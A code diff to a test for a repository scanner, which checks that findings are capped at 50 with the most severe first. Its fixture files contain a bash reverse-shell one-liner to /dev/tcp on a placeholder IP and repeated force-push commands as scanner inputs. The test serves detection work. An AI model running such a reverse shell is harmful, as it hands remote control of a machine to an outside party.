@@ -50,10 +50,10 @@ describe("adversarial inputs", () => {
   });
 
   it("caps the findings at 50, keeping the most severe", () => {
-    const lines = [...Array.from({ length: 80 }, () => "git push --force origin main"), "bash -i >& /dev/tcp/203.0.113.12/4444 0>&1"].join(
-      "\n",
-    );
-    const result = scanRepository(oneSkill("x", { files: { "many.sh": `${lines}\n` } }));
+    const files: Record<string, string> = { "shell.sh": "bash -i >& /dev/tcp/203.0.113.12/4444 0>&1\n" };
+    // At most 8 hits of one rule per file are recorded, so spread the low findings over ten files.
+    for (let i = 0; i < 10; i++) files[`push-${i}.sh`] = "git push --force origin main\n".repeat(8);
+    const result = scanRepository(oneSkill("x", { files }));
     expect(result.findings).toHaveLength(50);
     expect(result.findings[0]!.rule).toBe("dev-tcp-shell");
   });
